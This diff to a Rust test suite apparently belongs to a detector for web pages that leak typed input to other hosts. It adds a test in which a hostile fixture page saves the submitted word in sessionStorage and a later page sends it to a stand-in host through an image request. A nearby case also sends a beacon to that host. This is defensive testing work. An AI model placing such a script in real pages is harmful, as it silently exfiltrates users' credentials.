@@ -59,6 +59,18 @@ async fn a_page_that_listens_is_seen_too() {
     assert_eq!(Vec::from_iter(&visited.sent_elsewhere), [&org.elsewhere]);
 }
 
+/// What was kept where it was typed goes elsewhere when the next page comes, for which nothing is.
+#[tokio::test]
+async fn a_later_page_that_sends_it_is_seen_too() {
+    let keeps = on_submit("sessionStorage.setItem('kept', word);");
+    let sends = "<h1>Welcome</h1><script>const kept = sessionStorage.getItem('kept');\
+        if (kept) new Image().src = '{elsewhere}/x?' + encodeURIComponent(kept)</script>";
+    let org = Hostile::showing(&format!("{keeps}{{second}}{sends}")).await;
+    let visited = org.sign_in_and_go_on("/later").await;
+    assert_eq!(org.at_other("GET /x").len(), 1, "the page sends nothing");
+    assert_eq!(Vec::from_iter(&visited.sent_elsewhere), [&org.elsewhere]);
+}
+
 #[rstest]
 #[case::nothing("")]
 #[case::something_else("navigator.sendBeacon('{elsewhere}/x', 'hello');")]
